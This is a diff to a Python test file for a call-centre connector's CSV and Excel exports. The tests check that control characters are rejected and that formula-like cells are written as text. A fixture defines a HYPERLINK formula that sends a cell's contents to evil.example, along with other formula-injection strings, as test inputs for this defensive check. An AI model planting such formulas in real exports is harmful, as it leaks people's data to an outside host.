@@ -6,7 +6,6 @@ Now every surface refuses control characters with one rule (connector.validation
 the field, nothing written; comments keep tab and line breaks), and every export cleans each text cell and
 writes a formula-like one as text (connector.cells). Each hostile string is planted through each surface
 that still takes it, and every export is opened the way a person would open it."""
-import csv
 import io
 import re
 
@@ -17,7 +16,7 @@ from sqlalchemy import func, select, update
 from connector.exports import COLUMNS
 from connector.models import Call, Score
 from connector.users import add_user
-from tests.conftest import ADMIN_TOKEN, console_login, csrf_token, summary
+from tests.conftest import ADMIN_TOKEN, EXPORT_HEADERS, console_login, csrf_token, csv_rows, summary
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HOSTILE = ["bell\u0007", "7900\u0001", HYPERLINK, "+1+2", "@SUM(1)", "-2+3", "\tx", "\rx"]
@@ -63,13 +62,14 @@ def open_exports(client) -> dict:
     out = {}
     response = client.get("/calls/export.csv")
     assert response.status_code == 200, response.status_code
-    out["csv"] = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
-    for path, sheets in (("/calls/export.xlsx", ("calls",)), ("/reports/export.xlsx", ("operators", "lines"))):
+    out["csv"] = csv_rows(response)
+    for path, sheets in (("/calls/export.xlsx", {"calls": "Звонки"}),
+                         ("/reports/export.xlsx", {"operators": "Операторы", "lines": "Линии"})):
         response = client.get(path)
         assert response.status_code == 200, (path, response.status_code)
         book = load_workbook(io.BytesIO(response.data))
-        for name in sheets:
-            out[name] = [list(row) for row in book[name].iter_rows()]
+        for name, title in sheets.items():
+            out[name] = [list(row) for row in book[title].iter_rows()]
     assert_safe(out)
     return out
 
@@ -92,11 +92,11 @@ def assert_safe(exports: dict) -> None:
 
 
 def calls_by_id(exports: dict) -> tuple[dict, dict]:
-    """{call_id: {column: value}} from the CSV and from the calls sheet."""
-    header = exports["csv"][0]
-    assert header == list(COLUMNS)
-    from_csv = {row[0]: dict(zip(header, row)) for row in exports["csv"][1:]}
-    from_xlsx = {row[0].value: {h: c.value for h, c in zip(header, row)} for row in exports["calls"][1:]}
+    """{call_id: {column: value}} from the CSV and from the calls sheet (columns by their keys)."""
+    assert exports["csv"][0] == list(EXPORT_HEADERS)
+    assert [c.value for c in exports["calls"][0]] == list(EXPORT_HEADERS)
+    from_csv = {row[0]: dict(zip(COLUMNS, row)) for row in exports["csv"][1:]}
+    from_xlsx = {row[0].value: {h: c.value for h, c in zip(COLUMNS, row)} for row in exports["calls"][1:]}
     return from_csv, from_xlsx
 
 
@@ -254,7 +254,7 @@ def test_rows_stored_with_control_characters_before_the_rule_still_export(client
     for row in (from_csv["call-1"], from_xlsx["call-1"]):
         assert (row["customer_phone"], row["operator"], row["line_number"]) == ("7900", "101", "7495")
         assert row["reviews"] == "admin token: 6 (bell)"
-    assert keys(exports, "operators") == ["101", None] and keys(exports, "lines") == ["7495", None]
+    assert keys(exports, "operators") == ["101", "Итого"] and keys(exports, "lines") == ["7495", "Итого"]
 
 
 def test_formulas_from_the_pbx_are_text_in_every_export(client, mango_post, people):
@@ -268,7 +268,7 @@ def test_formulas_from_the_pbx_are_text_in_every_export(client, mango_post, peop
     assert (shown["customer_phone"], shown["operator"], shown["line_number"]) == ("+1+2", "@SUM(1)", "-2+3")
     quoted = from_csv["'" + HYPERLINK]
     assert (quoted["customer_phone"], quoted["operator"], quoted["line_number"]) == ("'+1+2", "'@SUM(1)", "'-2+3")
-    assert keys(exports, "operators") == ["@SUM(1)", None] and keys(exports, "lines") == ["-2+3", None]
+    assert keys(exports, "operators") == ["@SUM(1)", "Итого"] and keys(exports, "lines") == ["-2+3", "Итого"]
 
 
 def test_formulas_from_the_score_api_are_text_in_every_export(client, post_score, people):
@@ -289,14 +289,13 @@ def test_a_phone_number_reads_as_written_and_numbers_stay_numbers(client, mango_
     assert mango_post("events/dtmf", dtmf("call-1", "3")).status_code == 200  # a detractor: NPS -100
     console_login(client, "ann", PASSWORD)
     exports = open_exports(client)
-    header = [c.value for c in exports["calls"][0]]
-    row = dict(zip(header, exports["calls"][1]))
+    row = dict(zip(COLUMNS, exports["calls"][1]))
     assert row["customer_phone"].value == "+79001234567" and row["customer_phone"].data_type == "s"
     assert row["customer_phone"].quotePrefix
     assert row["customer_score"].value == 3 and row["customer_score"].data_type == "n"
     report_header = [c.value for c in exports["operators"][0]]
     totals = dict(zip(report_header, exports["operators"][-1]))
-    assert totals["nps"].value == -100.0 and totals["nps"].data_type == "n"
+    assert totals["NPS"].value == -100.0 and totals["NPS"].data_type == "n"
 
 
 # --- the cell rules alone --------------------------------------------------------------------------------
